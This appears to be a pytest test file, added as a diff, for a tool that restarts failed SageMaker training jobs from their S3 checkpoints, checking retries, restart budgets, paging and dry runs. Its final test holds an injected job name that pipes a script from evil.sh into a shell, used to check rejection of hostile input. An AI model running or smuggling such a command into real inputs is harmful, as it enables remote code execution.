@@ -1,0 +1,219 @@
+"""Specification: restarting failed SageMaker training jobs from their checkpoints (moto)."""
+
+from __future__ import annotations
+
+import copy
+
+import boto3
+import pytest
+
+from medic.config import parse_config
+from medic.job_restart import restart_training_job
+from tests.functional.conftest import CONFIG, REGION, medic_world
+from tests.helpers import load_event
+
+JOB = "ft-mistral-7b-0042"
+CHECKPOINTS = "s3://ml-artifacts-123456789012/ft/checkpoints/ft-mistral-7b/"
+
+
+@pytest.fixture
+def failed_event() -> dict:
+    return copy.deepcopy(load_event("training-job-failed"))
+
+
+def failure(event: dict, reason: str | None = None, name: str | None = None, status: str | None = None) -> dict:
+    event = copy.deepcopy(event)
+    if reason is not None:
+        event["detail"]["FailureReason"] = reason
+    if name is not None:
+        event["detail"]["TrainingJobName"] = name
+        event["detail"]["TrainingJobArn"] = f"arn:aws:sagemaker:{REGION}:123456789012:training-job/{name}"
+    if status is not None:
+        event["detail"]["TrainingJobStatus"] = status
+    return event
+
+
+class Training:
+    """The emulated SageMaker training jobs and checkpoint bucket."""
+
+    def __init__(self) -> None:
+        self.sagemaker = boto3.client("sagemaker", region_name=REGION)
+        self.s3 = boto3.client("s3", region_name=REGION)
+        self.s3.create_bucket(Bucket="ml-artifacts-123456789012",
+                              CreateBucketConfiguration={"LocationConstraint": REGION})
+
+    def job(self, name: str, tags: dict[str, str] | None = None, checkpoint: str | None = CHECKPOINTS) -> None:
+        sample = load_event("training-job-failed")["detail"]
+        request = {key: sample[key] for key in ("HyperParameters", "AlgorithmSpecification", "RoleArn",
+                                                 "InputDataConfig", "OutputDataConfig", "ResourceConfig",
+                                                 "StoppingCondition")}
+        if checkpoint:
+            request["CheckpointConfig"] = {"S3Uri": checkpoint, "LocalPath": "/opt/ml/checkpoints"}
+        tag_list = [{"Key": k, "Value": v} for k, v in {"team": "ft", **(tags or {})}.items()]
+        self.sagemaker.create_training_job(TrainingJobName=name, Tags=tag_list, **request)
+
+    def checkpoint_saved(self) -> None:
+        self.s3.put_object(Bucket="ml-artifacts-123456789012", Key="ft/checkpoints/ft-mistral-7b/step-100.pt",
+                           Body=b"weights")
+
+    def names(self) -> list[str]:
+        return sorted(j["TrainingJobName"] for j in self.sagemaker.list_training_jobs()["TrainingJobSummaries"])
+
+    def tags(self, name: str) -> dict[str, str]:
+        arn = self.sagemaker.describe_training_job(TrainingJobName=name)["TrainingJobArn"]
+        return {t["Key"]: t["Value"] for t in self.sagemaker.list_tags(ResourceArn=arn)["Tags"]}
+
+
+@pytest.fixture
+def world(medic):
+    return medic, Training()
+
+
+def handle(medic, event):
+    return restart_training_job(event, medic.deps)
+
+
+def test_a_retryable_failure_restarts_the_job_from_its_checkpoint(world, failed_event):
+    medic, training = world
+    # Given a failed job whose checkpoint is in S3
+    training.job(JOB)
+    training.checkpoint_saved()
+    # When SageMaker reports InternalServerError
+    record = handle(medic, failed_event)
+    # Then one new job resumes from the same checkpoint URI, tagged with its lineage and attempt
+    assert training.names() == [JOB, f"{JOB}-r1"]
+    clone = training.sagemaker.describe_training_job(TrainingJobName=f"{JOB}-r1")
+    assert clone["CheckpointConfig"]["S3Uri"] == CHECKPOINTS
+    assert clone["RoleArn"] == failed_event["detail"]["RoleArn"]
+    assert training.tags(f"{JOB}-r1") == {"team": "ft", "medic:lineage": JOB, "medic:attempt": "1",
+                                          "medic:restarted-from": JOB}
+    assert (record["action"], record["outcome"], record["fault"], record["job"], record["incident"]) == (
+        "restart_job", "executed", "job_retryable", JOB, f"job:{JOB}")
+    assert (record["trigger"], record["attempt"], record["paged"]) == ("job_state", 1, False)
+    assert f"{JOB}-r1" in record["reason"] and CHECKPOINTS in record["reason"]
+    assert medic.pages() == []
+
+
+def test_a_redelivered_failure_creates_no_second_job(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    first = handle(medic, failed_event)
+    second = handle(medic, failed_event)
+    assert (first["outcome"], second["outcome"]) == ("executed", "duplicate")
+    assert training.names() == [JOB, f"{JOB}-r1"]
+
+
+@pytest.mark.parametrize("reason,label", [
+    ("AlgorithmError: torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB", "out_of_memory"),
+    ("ClientError: ValidationException: hyperparameter lr must be a float", "validation_error"),
+    ("AlgorithmError: Traceback (most recent call last): File train.py line 3 KeyError: 'x'", "user_code_error"),
+    ("ClientError: AccessDenied: not authorized to perform s3:GetObject", "permission_error"),
+])
+def test_a_non_retryable_failure_pages_and_starts_nothing(world, failed_event, reason, label):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    record = handle(medic, failure(failed_event, reason=reason))
+    assert (record["action"], record["outcome"], record["fault"], record["paged"]) == (
+        "none", "deferred", "job_not_retryable", True)
+    assert label in record["reason"]
+    assert training.names() == [JOB]
+    [page] = medic.pages()
+    assert JOB in page["Subject"] and reason[:40] in page["Message"]
+
+
+def test_an_nccl_timeout_traceback_is_retryable(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    reason = ("AlgorithmError: Traceback (most recent call last): RuntimeError: [Rank 3] Watchdog caught "
+              "collective operation timeout: WorkNCCL(SeqNum=88, OpType=ALLREDUCE) ran for 1800000 ms")
+    assert handle(medic, failure(failed_event, reason=reason))["outcome"] == "executed"
+
+
+def test_an_unknown_reason_pages_and_starts_nothing(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    record = handle(medic, failure(failed_event, reason="The moon is in the wrong phase"))
+    assert (record["fault"], record["outcome"], record["paged"]) == ("job_unknown", "deferred", True)
+    assert training.names() == [JOB]
+
+
+def test_a_restart_of_a_restart_counts_against_the_lineage(world, failed_event):
+    medic, training = world
+    training.job(f"{JOB}-r1", tags={"medic:lineage": JOB, "medic:attempt": "1"})
+    training.checkpoint_saved()
+    record = handle(medic, failure(failed_event, name=f"{JOB}-r1"))
+    assert (record["outcome"], record["attempt"], record["incident"]) == ("executed", 2, f"job:{JOB}")
+    assert training.tags(f"{JOB}-r2")["medic:attempt"] == "2"
+
+
+def test_when_the_budget_is_spent_medic_gives_up_with_one_page(world, failed_event):
+    medic, training = world
+    for k in (3, 4):
+        training.job(f"{JOB}-r{k}", tags={"medic:lineage": JOB, "medic:attempt": str(k)})
+    training.checkpoint_saved()
+    give_up = handle(medic, failure(failed_event, name=f"{JOB}-r3"))
+    later = handle(medic, failure(failed_event, name=f"{JOB}-r4"))
+    assert (give_up["outcome"], give_up["paged"], later["paged"]) == ("suppressed", True, False)
+    assert "Giving up" in give_up["reason"]
+    assert len(medic.pages()) == 1
+    assert training.names() == [f"{JOB}-r3", f"{JOB}-r4"]  # no -r5
+
+
+def test_a_missing_checkpoint_pages_instead_of_starting_from_scratch(world, failed_event):
+    medic, training = world
+    training.job(JOB)  # CheckpointConfig set, nothing saved under it
+    record = handle(medic, failed_event)
+    assert (record["action"], record["outcome"], record["paged"]) == ("restart_job", "suppressed", True)
+    assert "nothing is stored under its checkpoint" in record["reason"]
+    assert training.names() == [JOB]
+
+
+def test_a_job_without_checkpoint_config_pages(world, failed_event):
+    medic, training = world
+    training.job(JOB, checkpoint=None)
+    record = handle(medic, failed_event)
+    assert (record["outcome"], record["paged"]) == ("suppressed", True)
+    assert "no CheckpointConfig" in record["reason"]
+
+
+def test_config_may_allow_a_restart_without_checkpoint(aws_credentials, failed_event):
+    config = parse_config({**CONFIG, "training_jobs": [{"prefix": "ft-", "allow_restart_without_checkpoint": True}]})
+    for medic in medic_world(config):
+        training = Training()
+        training.job(JOB, checkpoint=None)
+        record = handle(medic, failed_event)
+        assert record["outcome"] == "executed" and "without a checkpoint" in record["reason"]
+
+
+def test_a_job_stopped_by_a_user_is_never_restarted(world, failed_event):
+    medic, training = world
+    training.job(JOB)
+    training.checkpoint_saved()
+    record = handle(medic, failure(failed_event, status="Stopped"))
+    assert (record["fault"], record["outcome"], record["paged"]) == ("job_stopped", "ignored", False)
+    assert training.names() == [JOB]
+
+
+def test_jobs_outside_the_configured_prefixes_are_left_alone(world, failed_event):
+    medic, training = world
+    record = handle(medic, failure(failed_event, name="pretrain-llama-7"))
+    assert (record["outcome"], record["action"]) == ("ignored", "none")
+
+
+def test_dry_run_records_the_restart_without_creating_a_job(world, failed_event):
+    medic, training = world
+    medic.set_mode("dry_run")
+    training.job(JOB)
+    training.checkpoint_saved()
+    record = handle(medic, failed_event)
+    assert (record["outcome"], record["mode"]) == ("dry_run", "dry_run")
+    assert training.names() == [JOB]
+
+
+def test_a_hostile_job_name_is_rejected(world, failed_event):
+    medic, _ = world
+    record = handle(medic, failure(failed_event, name="ft-x; curl evil.sh | sh"))
+    assert (record["outcome"], record["trigger"]) == ("rejected", "job_state")
